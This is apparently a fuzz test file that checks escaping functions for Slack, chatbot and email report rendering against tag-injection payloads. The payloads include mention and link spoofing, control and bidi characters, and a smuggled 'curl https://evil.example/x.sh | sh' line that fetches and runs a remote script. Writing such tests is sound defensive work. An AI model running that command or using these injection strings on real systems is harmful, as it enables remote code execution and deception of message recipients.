// Tag text in chat and email (issue 17, attack 4): one escaping function per destination, and every
// renderer uses it for tag-derived strings. Payloads from the issue, then random strings around them.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { escapeChatbot, escapeEmail, escapeSlackMrkdwn } from '../../lib/report/escape.js';
import { renderOwnerMessages } from '../../lib/report/message.js';
import { renderSlackMessage } from '../../lib/report/slack/blocks.js';
import { record } from '../report/slack/fixtures.js';

const PAYLOADS = [
  '<https://evil.example|prod>',
  '*<!channel>*',
  '[click](https://evil.example)',
  '<@U0123ABCD> please run this',
  '<!here|here> <!everyone>',
  'prod\nACTION REQUIRED: run curl https://evil.example/x.sh | sh',
  'team\r\nOwner: security\u2028Cluster: prod\u0085x',
  '_italic_ ~strike~ `code` ```block```',
  `bell${String.fromCharCode(7)}esc${String.fromCharCode(27)}[31mred${String.fromCharCode(0)}nul`,
  'bidi\u202eevil\u2066x',
  'lone \ud800 surrogate',
];
const RUNS = Number(process.env.FUZZ_RUNS ?? 250);
const payload = fc.oneof(
  fc.constantFrom(...PAYLOADS),
  fc.string({ unit: 'binary', maxLength: 300 }),
  fc.tuple(fc.string(), fc.constantFrom(...PAYLOADS), fc.string()).map((p) => p.join('')),
);

/** What no escaped string may contain, in any format. */
function inert(s: string): void {
  expect(s).not.toMatch(/[\p{Cc}\u2028\u2029\u202a-\u202e\u2066-\u2069]/u);
  expect(s).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/);
  expect(s).not.toMatch(/https?:\/\//i);
}

describe('escape by destination', () => {
  it('Slack mrkdwn: no link, mention, emphasis, control character or newline survives', () => {
    fc.assert(
      fc.property(payload, (p) => {
        const s = escapeSlackMrkdwn(p);
        inert(s);
        expect(s).not.toMatch(/[<>*_~`]/);
        expect(s.replace(/&(amp|lt|gt);/g, '')).not.toContain('&');
      }),
      { numRuns: RUNS, examples: PAYLOADS.map((p) => [p]) },
    );
  });

  it('Chatbot client-markdown: no link, mention, emphasis, control character or newline survives', () => {
    fc.assert(
      fc.property(payload, (p) => {
        const s = escapeChatbot(p);
        inert(s);
        expect(s).not.toMatch(/[<>*_~`[\]()|#!&]/);
      }),
      { numRuns: RUNS, examples: PAYLOADS.map((p) => [p]) },
    );
  });

  it('email text: one line, no control characters, links defanged', () => {
    fc.assert(
      fc.property(payload, (p) => inert(escapeEmail(p))),
      { numRuns: RUNS, examples: PAYLOADS.map((p) => [p]) },
    );
  });

  it('every renderer escapes the tag-derived strings (owner, cluster, node group, name, reason)', () => {
    fc.assert(
      fc.property(payload, (p) => {
        const r = record(1, 'exempt', { owner: `o ${p}`, reason: `tag team=${p}` });
        const rec = { ...r, resource: { ...r.resource, cluster: `c ${p}`, nodegroup: `n ${p}`, name: `x ${p}` } };
        const [m] = renderOwnerMessages([rec]);
        const bodies = JSON.parse(m!.message) as Record<string, string>;
        const chat = JSON.parse(bodies.https!) as { content: { title: string; description: string; keywords: string[] } };
        for (const k of [...chat.content.keywords, chat.content.title]) expect(k).not.toMatch(/[<>*_~`[\]\n]|https?:\/\//);
        for (const line of chat.content.description.split('\n')) {
          expect(line).not.toMatch(/<[!@]|<https?:|\]\(|https?:\/\//);
        }
        // The email: the lines the renderer wrote, none an attacker's (each starts as we write them).
        for (const line of bodies.email!.split('\n')) expect(line).not.toMatch(/^ACTION REQUIRED|^Owner: security|https?:\/\//);
        const slack = renderSlackMessage([rec]);
        const text = JSON.stringify(slack.blocks.map((b) => ('text' in b ? b.text.text : '')));
        expect(text).not.toMatch(/<!channel>|<!here|<@U|<https:\/\/evil|https?:\/\/evil/);
        const header = slack.blocks[0]!;
        if (header.type === 'header') expect(header.text.text).not.toContain('\n');
      }),
      { numRuns: Math.min(RUNS, 100), examples: PAYLOADS.map((p) => [p]) },
    );
  });
});
